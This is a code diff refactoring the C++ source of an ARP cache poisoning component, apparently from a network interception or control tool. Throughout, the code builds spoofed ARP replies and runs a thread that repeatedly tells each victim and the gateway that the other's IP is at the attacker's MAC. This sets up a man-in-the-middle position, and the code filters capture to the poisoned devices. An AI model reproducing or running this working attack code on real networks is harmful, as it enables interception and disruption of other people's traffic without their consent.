+            NS_LOG_INFO("ARP Manager: All ARP poisoning stopped\n");
         }
         
         return success;
@@ -789,9 +814,41 @@ bool ArpManager::stopArpPoisoning(const std::string& target_ip) {
     return false;
 }
 
+// Narrow the capture to ARP plus frames from the gateway and the poisoned
+// devices (ARP alone for the arp-only profile), so the kernel drops
+// unmanaged traffic before copying it to us. Re-applied whenever the
+// target set changes; the switch is atomic.
+void ArpManager::updateCaptureFilter() {
+    if (!packet_io_) return;
+
+    std::vector<uint64_t> macs;
+    if (capture_profile_.arp_only) {
+        if (packet_io_->setFilter(BuildCaptureFilter(macs, capture_profile_.snaplen))) {
+            NS_LOG_DEBUG("ARP Manager: Capture filter set for ARP only\n");
+        }
+        return;
+    }
+
+    uint8_t mac[6];
+    if (stringToMac(network_info.gateway_mac, mac)) {
+        macs.push_back(MacKey(mac));
+    }
+    if (poisoning_worker_) {
+        for (const auto& target : poisoning_worker_->getTargets()) {
+            macs.push_back(MacKey(target.mac_bytes));
+        }
+    }
+
+    if (packet_io_->setFilter(BuildCaptureFilter(macs, capture_profile_.snaplen))) {
+        NS_LOG_DEBUG("ARP Manager: Capture filter set for %u MACs\n", static_cast<unsigned>(macs.size()));
+    } else {
+        NS_LOG_DEBUG("ARP Manager: Capture filter not applied: %s\n", packet_io_->lastError());
+    }
+}
+
 bool ArpManager::poisonArpCache(const std::string& victim_ip, const std::string& victim_mac, 
                                const std::string& spoof_ip, const std::string& our_mac) {
-    if (!is_initialized || !pcap_handle) {
+    if (!is_initialized || !packet_io_) {
         setError("ARP Manager not properly initialized for poisoning operations");
         return false;
     }
@@ -810,40 +867,23 @@ bool ArpManager::poisonArpCache(const std::string& victim_ip, const std::string&
         return false;
     }
     
-    // Prepare ARP poisoning frame (spoofed reply)
-    ArpFrame* frame = reinterpret_cast<ArpFrame*>(arp_buffer.data());
-    memset(frame, 0, sizeof(ArpFrame));
-    
-    // Ethernet header - send directly to victim
-    memcpy(frame->eth.dest_mac, victim_mac_bytes, 6);
-    memcpy(frame->eth.src_mac, our_mac_bytes, 6);
-    frame->eth.ethertype = htons(0x0806); // ARP
-    
-    // ARP packet - claim we are the spoofed IP
-    frame->arp.hardware_type = htons(1);    // Ethernet
-    frame->arp.protocol_type = htons(0x0800); // IPv4
-    frame->arp.hardware_len = 6;
-    frame->arp.protocol_len = 4;
-    frame->arp.operation = htons(2);        // Reply (unsolicited)
-    memcpy(frame->arp.sender_mac, our_mac_bytes, 6);      // Our MAC
-    memcpy(frame->arp.sender_ip, spoof_ip_bytes, 4);      // IP we're spoofing
-    memcpy(frame->arp.target_mac, victim_mac_bytes, 6);   // Victim's MAC
-    memcpy(frame->arp.target_ip, victim_ip_bytes, 4);     // Victim's IP
+    // Prepare ARP poisoning frame: an unsolicited reply sent directly to the
+    // victim, claiming the spoofed IP is at our MAC
+    BuildArpReply(*arp_frame, our_mac_bytes, spoof_ip_bytes, victim_mac_bytes, victim_ip_bytes);
     
     // Send poisoning packet
-    int result = pcap_sendpacket(pcap_handle, arp_buffer.data(), sizeof(ArpFrame));
+    bool success = packet_io_->send(arp_buffer.data(), sizeof(ArpFrame));
     
     auto end_time = std::chrono::high_resolution_clock::now();
-    auto duration = std::chrono::duration_cast<std::chrono::microseconds>(end_time - start_time);
+    auto duration = std::chrono::duration_cast<std::chrono::nanoseconds>(end_time - start_time);
     
-    bool success = (result == 0);
-    updatePerformanceStats(true, duration.count() / 1000.0, success);
+    updatePerformanceStats(true, static_cast<uint64_t>(duration.count()), success);
     
     if (!success) {
-        setError("Failed to send ARP poisoning packet: " + std::string(pcap_geterr(pcap_handle)));
+        setError("Failed to send ARP poisoning packet: " + packet_io_->lastError());
     } else {
-        printf("ARP Manager: Poisoned %s -> told %s that %s is at %s\n", 
-               victim_ip.c_str(), victim_ip.c_str(), spoof_ip.c_str(), our_mac.c_str());
+        NS_LOG_DEBUG("ARP Manager: Poisoned %s -> told %s that %s is at %s\n",
+                     victim_ip, victim_ip, spoof_ip, our_mac);
     }
     
     return success;
@@ -856,7 +896,7 @@ bool ArpManager::PoisoningWorker::start(const std::string& target_ip, const std:
     // Check if target is already being poisoned
     for (const auto& target : targets_) {
         if (target.ip == target_ip) {
-            printf("PoisoningWorker: Target %s is already being poisoned\n", target_ip.c_str());
+            NS_LOG_INFO("PoisoningWorker: Target %s is already being poisoned\n", target_ip);
             return true;
         }
     }
@@ -865,15 +905,20 @@ bool ArpManager::PoisoningWorker::start(const std::string& target_ip, const std:
     Target new_target;
     new_target.ip = target_ip;
     new_target.mac = target_mac;
+    if (!ArpManager::stringToIp(target_ip, new_target.ip_bytes) ||
+        !ArpManager::stringToMac(target_mac, new_target.mac_bytes)) {
+        NS_LOG_WARN("PoisoningWorker: Invalid target address %s (%s)\n", target_ip, target_mac);
+        return false;
+    }
     targets_.push_back(new_target);
     
-    printf("PoisoningWorker: Added target %s (%s) to poisoning list\n", target_ip.c_str(), target_mac.c_str());
+    NS_LOG_INFO("PoisoningWorker: Added target %s (%s) to poisoning list\n", target_ip, target_mac);
     
     // Start the poisoning thread if not already running
     if (!running_.load()) {
         running_.store(true);
         thread_ = std::thread(&PoisoningWorker::loop, this);
-        printf("PoisoningWorker: Started continuous poisoning thread\n");
+        NS_LOG_INFO("PoisoningWorker: Started continuous poisoning thread\n");
     }
     
     return true;
@@ -892,10 +937,10 @@ bool ArpManager::PoisoningWorker::stop(const std::string& target_ip) {
         Target target_to_restore = *it;
         targets_.erase(it);
         
-        printf("PoisoningWorker: Removed target %s from poisoning list\n", target_ip.c_str());
+        NS_LOG_INFO("PoisoningWorker: Removed target %s from poisoning list\n", target_ip);
         
         // Send 3 legitimate ARP replies to restore normal connectivity
-        printf("PoisoningWorker: Restoring legitimate ARP entries for %s\n", target_ip.c_str());
+        NS_LOG_INFO("PoisoningWorker: Restoring legitimate ARP entries for %s\n", target_ip);
         
         if (arp_manager_ && arp_manager_->is_initialized) {
             const auto& network_info = arp_manager_->network_info;
@@ -919,7 +964,7 @@ bool ArpManager::PoisoningWorker::stop(const std::string& target_ip) {
             if (thread_.joinable()) {
                 thread_.join();
             }
-            printf("PoisoningWorker: Stopped continuous poisoning thread\n");
+            NS_LOG_INFO("PoisoningWorker: Stopped continuous poisoning thread\n");
         }
         
         return true;
@@ -935,17 +980,18 @@ void ArpManager::PoisoningWorker::stopAll() {
         return; // Already stopped
     }
     
-    printf("PoisoningWorker: Stopping all poisoning operations...\n");
+    NS_LOG_INFO("PoisoningWorker: Stopping all poisoning operations...\n");
     
-    // Send restoration packets for all targets
+    // Send restoration packets for all targets: 3 rounds of legitimate ARP
+    // replies, each round covering every target, so the total wait stays
+    // at 200ms however many targets there are
     if (arp_manager_ && arp_manager_->is_initialized) {
         const auto& network_info = arp_manager_->network_info;
+        NS_LOG_INFO("PoisoningWorker: Restoring legitimate ARP entries for %u targets\n",
+                    static_cast<unsigned>(targets_.size()));
         
-        for (const auto& target : targets_) {
-            printf("PoisoningWorker: Restoring legitimate ARP entries for %s\n", target.ip.c_str());
-            
-            // Send 3 legitimate ARP replies to restore normal connectivity
-            for (int i = 0; i < 3; i++) {
+        for (int i = 0; i < 3; i++) {
+            for (const auto& target : targets_) {
                 // Restore victim -> gateway association
                 arp_manager_->sendArpReply(network_info.gateway_ip, target.ip, 
                                          network_info.gateway_mac, target.mac);
@@ -953,9 +999,9 @@ void ArpManager::PoisoningWorker::stopAll() {
                 // Restore gateway -> victim association
                 arp_manager_->sendArpReply(target.ip, network_info.gateway_ip,
                                          target.mac, network_info.gateway_mac);
-                
-                if (i < 2) Sleep(100); // Small delay between restoration packets
             }
+            
+            if (i < 2) Sleep(100); // Small delay between restoration rounds
         }
     }
     
@@ -967,7 +1013,7 @@ void ArpManager::PoisoningWorker::stopAll() {
         thread_.join();
     }
     
-    printf("PoisoningWorker: All poisoning operations stopped and ARP tables restored\n");
+    NS_LOG_INFO("PoisoningWorker: All poisoning operations stopped and ARP tables restored\n");
 }
 
 std::vector<ArpManager::PoisoningWorker::Target> ArpManager::PoisoningWorker::getTargets() const {
@@ -976,15 +1022,27 @@ std::vector<ArpManager::PoisoningWorker::Target> ArpManager::PoisoningWorker::ge
 }
 
 void ArpManager::PoisoningWorker::loop() {
-    printf("PoisoningWorker: Continuous poisoning loop started\n");
+    NS_LOG_INFO("PoisoningWorker: Continuous poisoning loop started\n");
     
     while (running_.load()) {
+        // Parse our side once per cycle rather than once per frame
+        const auto& network_info = arp_manager_->network_info;
+        SpoofEndpoints local;
+        bool local_valid = ArpManager::stringToMac(network_info.interface_mac, local.our_mac) &&
+                           ArpManager::stringToIp(network_info.gateway_ip, local.gateway_ip) &&
+                           ArpManager::stringToMac(network_info.gateway_mac, local.gateway_mac);
+        
         {
             std::lock_guard<std::mutex> lock(targets_mutex_);
             
             // Send poisoning packets for each target
             for (const auto& target : targets_) {
-                sendSpoof(target);
+                if (!local_valid) {
+                    NS_LOG_RATE(NS_LOG_LEVEL_WARN, 1, "PoisoningWorker: WARNING - Incomplete network information, skipping spoof for %s\n",
+                                target.ip);
+                    continue;
+                }
+                sendSpoof(local, target);
             }
         }
         
@@ -992,39 +1050,21 @@ void ArpManager::PoisoningWorker::loop() {
         std::this_thread::sleep_for(std::chrono::milliseconds(2000));
     }
     
-    printf("PoisoningWorker: Continuous poisoning loop ended\n");
+    NS_LOG_INFO("PoisoningWorker: Continuous poisoning loop ended\n");
 }
 
-void ArpManager::PoisoningWorker::sendSpoof(const Target& target) {
-    if (!arp_manager_ || !arp_manager_->is_initialized) {
-        return;
-    }
-    
-    const auto& network_info = arp_manager_->network_info;
-    
-    // Ensure we have valid network information
-    if (network_info.gateway_ip.empty() || network_info.gateway_mac.empty() || 
-        network_info.interface_mac.empty()) {
-        printf("PoisoningWorker: WARNING - Incomplete network information, skipping spoof for %s\n", 
-               target.ip.c_str());
+void ArpManager::PoisoningWorker::sendSpoof(const SpoofEndpoints& local, const Target& target) {
+    if (!arp_manager_ || !arp_manager_->is_initialized || !arp_manager_->packet_io_) {
         return;
     }
     
-    // Send two spoofed ARP replies as specified in Step 4:
-    // 1. Tell victim that gateway IP is at our MAC
-    bool success1 = arp_manager_->sendArpReply(network_info.gateway_ip, target.ip, 
-                                              network_info.interface_mac, target.mac);
-    
-    // 2. Tell gateway that victim IP is at our MAC  
-    bool success2 = arp_manager_->sendArpReply(target.ip, network_info.gateway_ip,
-                                              network_info.interface_mac, network_info.gateway_mac);
-    
-    if (success1 && success2) {
-        printf("PoisoningWorker: Successfully poisoned %s <-> %s via %s\n", 
-               target.ip.c_str(), network_info.gateway_ip.c_str(), network_info.interface_mac.c_str());
+    // Send two spoofed ARP replies as specified in Step 4 (see SendSpoofPair)
+    if (SendSpoofPair(*arp_manager_->packet_io_, frame_, local, target.ip_bytes, target.mac_bytes)) {
+        NS_LOG_DEBUG("PoisoningWorker: Successfully poisoned %s <-> %s via %s\n",
+                     target.ip, arp_manager_->network_info.gateway_ip, arp_manager_->network_info.interface_mac);
     } else {
-        printf("PoisoningWorker: WARNING - Failed to send poisoning packets for %s (success1=%d, success2=%d)\n", 
-               target.ip.c_str(), success1, success2);
+        NS_LOG_RATE(NS_LOG_LEVEL_WARN, 1, "PoisoningWorker: WARNING - Failed to send poisoning packets for %s: %s\n",
+                    target.ip, arp_manager_->packet_io_->lastError());
     }
 }
 
@@ -1043,10 +1083,26 @@ bool InitializeArpManager(const std::string& adapter_name) {
     return g_arp_manager->initialize(adapter_name);
 }
 
+bool InitializeArpManager(const std::string& adapter_name, CapturePreset preset) {
+    if (!g_arp_manager) {
+        g_arp_manager = std::make_unique<ArpManager>();
+    }
+    g_arp_manager->setCaptureProfile(GetCaptureProfile(preset));
+    return g_arp_manager->initialize(adapter_name);
+}
+
+bool InitializeArpManagerWithBackend(const NetworkInfo& info, std::shared_ptr<PacketIO> io) {
+    if (!g_arp_manager) {
+        g_arp_manager = std::make_unique<ArpManager>();
+    }
+    return g_arp_manager->initializeWithBackend(info, std::move(io));
+}
+
 void CleanupArpManager() {
     if (g_arp_manager) {
         g_arp_manager->cleanup();
     }
+    LogFlush();
 }
 
 NetworkInfo GetNetworkTopology() {